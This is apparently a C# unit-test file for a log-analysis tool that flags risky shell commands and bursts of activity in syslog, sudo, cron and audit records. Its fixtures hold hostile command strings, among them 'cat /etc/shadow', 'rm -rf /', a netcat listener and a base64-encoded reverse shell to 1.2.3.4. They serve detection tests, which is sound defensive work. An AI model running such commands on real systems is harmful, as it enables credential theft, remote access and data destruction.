using System.Globalization;
using System.Text.Json;
using Quarry.Catalogue;
using Quarry.Logs.Commands;
using Quarry.Tables;
using Quarry.Testing;

namespace Quarry.Tests.Logs.Commands;

public sealed class CommandTests
{
    private static readonly DateTime Begin = new(2024, 1, 1, 0, 0, 0, DateTimeKind.Utc);

    [Fact]
    public void The_recorded_risky_commands_are_found_and_beyond_them_only_those_that_are_listed()
    {
        string[] ours = ["cat /etc/shadow", "chmod 777 /tmp/x", "nc -lvp 4444", "useradd eve", "base64 -d x", "echo Y2F0IC9ldGMvc2hhZG93", "Y2F0IC9ldGMvc2hhZG93OyBuYyAtZSAvYmluL3NoIDEuMi4zLjQgMQ==", "rm -rf /", "python -c 'import pty'"];
        using JsonDocument golden = JsonDocument.Parse(File.ReadAllText(Corpus.PathOf("golden/syslog/summary.json")));
        JsonElement one = golden.RootElement.GetProperty("risky.synthetic");
        LoggedCommand[] commands = [.. one.GetProperty("commands").EnumerateArray().Select((c, i) => Command(c.GetString()!, i))];

        string[] found = [.. commands.FindRisky().Select(r => r.Command.Command).Distinct()];

        found.Order().ShouldBe([.. one.GetProperty("hits").EnumerateArray().Select(h => h[1].GetString()!).Concat(ours).Order()]);
    }

    [Fact]
    public void Commands_of_one_time_are_all_tested_and_encoded_ones_by_what_they_hold()
    {
        string encoded = Convert.ToBase64String("cat /etc/shadow | nc -e /bin/sh 1.2.3.4 1"u8);

        string[] found = [.. new[] { Command("/bin/bash", 0), Command("ls", 0), Command($"echo {encoded}", 0) }.FindRisky().Select(r => $"{r.Command.Command.Split(' ')[0]} {r.Rule.Name} {r.Layer} {r.Evidence}")];

        found.ShouldBe(["/bin/bash shell  /bin/bash", "echo password-hashes 1 /etc/shadow", "echo netcat 1  nc -e"]);
    }

    [Fact]
    public void Rules_in_the_references_form_match_from_the_commands_first_character_on()
    {
        IReadOnlyList<RiskyRule> rules = RiskyRule.FromJson("""{"Syslog": ["bash", ".*shadow"], "Other": []}""", "Syslog");

        new[] { Command("/bin/bash", 0), Command("bash -i", 1), Command("cat /etc/shadow", 2) }.FindRisky(rules).Select(r => r.Command.Command).ShouldBe(["bash -i", "cat /etc/shadow"]);
        Should.Throw<QuarryException>(() => RiskyRule.FromJson("""{"Syslog": [], "Other": []}""", "Nope")).Message.ShouldContain("Other");
        Should.Throw<QuarryException>(() => RiskyRule.FromJson("[1]")).Message.ShouldContain("JSON");
        Should.Throw<QuarryException>(() => new RiskyOptions { Rules = ["x=(?<=a)b"] }).Message.ShouldContain("Look-around");
        Should.Throw<QuarryException>(() => new RiskyOptions { Rules = ["nothing"] }).Message.ShouldContain("NAME=PATTERN");
    }

    [Fact]
    public void Hostile_commands_take_linear_time()
    {
        string text = string.Concat(Enumerable.Repeat("curl mv chmod find rm base64 ", 20_000));
        var clock = System.Diagnostics.Stopwatch.StartNew();

        _ = new[] { Command(text, 0) }.FindRisky().ToArray();

        clock.Elapsed.TotalSeconds.ShouldBeLessThan(20);
    }

    [Theory]
    [InlineData("  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id -u", "deploy", "/usr/bin/id -u")]
    [InlineData("peteb : TTY=pts/0   PWD=/home/peteb   USER=root   COMMAND=/usr/sbin/squid", "peteb", "/usr/sbin/squid")]
    [InlineData("eve : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su", "eve", "/bin/su")]
    [InlineData("eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo ; COMMAND=/bin/ls", "eve", "/bin/echo ; COMMAND=/bin/ls")]
    [InlineData("(root) CMD (   cd / && run-parts)", "root", "cd / && run-parts")]
    [InlineData("pam_unix(sudo:session): session opened for user root", null, null)]
    [InlineData(" COMMAND=x", null, null)]
    public void Commands_stand_in_the_messages_of_sudo_and_cron(string message, string? user, string? command)
    {
        bool isFound = CommandMessage.TryRead(message, out string? who, out string found);

        isFound.ShouldBe(command is not null);
        (isFound ? who : null).ShouldBe(user);
        (isFound ? found : null).ShouldBe(command);
    }

    [Fact]
    public void Overlapping_windows_are_one_burst_and_users_and_machines_are_apart()
    {
        LoggedCommand[] commands =
        [
            .. Enumerable.Range(0, 14).Select(i => Command($"a{i}", i)),
            .. Enumerable.Range(0, 3).Select(i => Command($"b{i}", 100 + i)),
            .. Enumerable.Range(0, 2).Select(i => Command($"c{i}", i) with { User = "v" }),
            .. Enumerable.Range(0, 2).Select(i => Command($"d{i}", i) with { Computer = "other" }),
            Command("no time", 0) with { Time = null },
        ];
        new Random(1).Shuffle(commands);

        string[] bursts = [.. commands.FindBursts(new BurstOptions { Time = TimeSpan.FromSeconds(3), Events = 3 }).Select(b => $"{b.User} {b.Commands[0].Command} {b.Commands.Count} {(b.End - b.Start).TotalSeconds}")];

        bursts.ShouldBe(["u a0 14 13", "u b0 3 2"]);
    }

    [Fact]
    public void Bursts_agree_with_the_obvious_way_on_random_times()
    {
        var random = new Random(5);
        for (int round = 0; round < 200; round++)
        {
            LoggedCommand[] commands = [.. Enumerable.Range(0, random.Next(40)).Select(i => Command($"{i}", random.Next(60)))];
            var options = new BurstOptions { Time = TimeSpan.FromSeconds(random.Next(1, 8)), Events = random.Next(2, 6) };
            LoggedCommand[] sorted = [.. commands.OrderBy(c => c.Time)];
            var fast = new HashSet<LoggedCommand>();
            for (int i = 0; i + options.Events <= sorted.Length; i++)
            {
                if (sorted[i + options.Events - 1].Time - sorted[i].Time < options.Time)
                {
                    fast.UnionWith(sorted[i..(i + options.Events)]);
                }
            }

            commands.FindBursts(options).SelectMany(b => b.Commands).ToHashSet().SetEquals(fast).ShouldBeTrue();
        }
    }

    [Fact]
    public void The_verbs_read_raw_logs_tables_and_audit_records()
    {
        using TableStream raw = TableStream.Of(LogText.File(LogText.Repository("samples/syslog.log")));
        using TableStream burst = TableStream.Of(LogText.File(LogText.Repository("samples/syslog.log")));
        using TableStream audit = TableStream.Of(LogText.Lines("type=SYSCALL msg=audit(1.000:1): auid=5 success=yes", "type=EXECVE msg=audit(1.000:1): argc=2 a0=\"cat\" a1=\"/etc/shadow\""));
        using TableStream table = TableStream.Of(new TableBuilder(("Command", ColumnType.String), ("TimeGenerated", ColumnType.String)).AddRow("/bin/bash", "2019-07-05T18:19:52.873Z").AddRow("", "").Build());

        Table found = RiskyAnalysis.Entry.Run(raw, RiskyAnalysis.Entry.DefaultOptions, LogText.At("2026-11-24T00:00:00Z")).Gather();
        Table bursts = BurstAnalysis.Entry.Run(burst, BurstAnalysis.Entry.DefaultOptions, LogText.At("2026-11-24T00:00:00Z")).Gather();

        // The planted rows of samples/README.md, and the look at passwords and rules in the burst.
        Enumerable.Range(0, found.RowCount).Select(r => long.Parse(found.Cell(r, "SourceIndex")!, CultureInfo.InvariantCulture)).Distinct().ShouldBe([707, 710, 728, 738, 741, 744, 747, 750]);
        bursts.RowCount.ShouldBe(1);
        bursts.Cell(0, "Count").ShouldBe("12");
        RiskyAnalysis.Entry.Run(audit, RiskyAnalysis.Entry.DefaultOptions, AnalysisContext.Default).Gather().Cell(0, "User").ShouldBe("5");
        RiskyAnalysis.Entry.Run(table, RiskyAnalysis.Entry.DefaultOptions, AnalysisContext.Default).Gather().Cell(0, "TimeGenerated").ShouldBe("2019-07-05T18:19:52.873Z");
    }

    private static LoggedCommand Command(string text, int second) => new(Begin.AddSeconds(second), "h", "u", text, second);
}
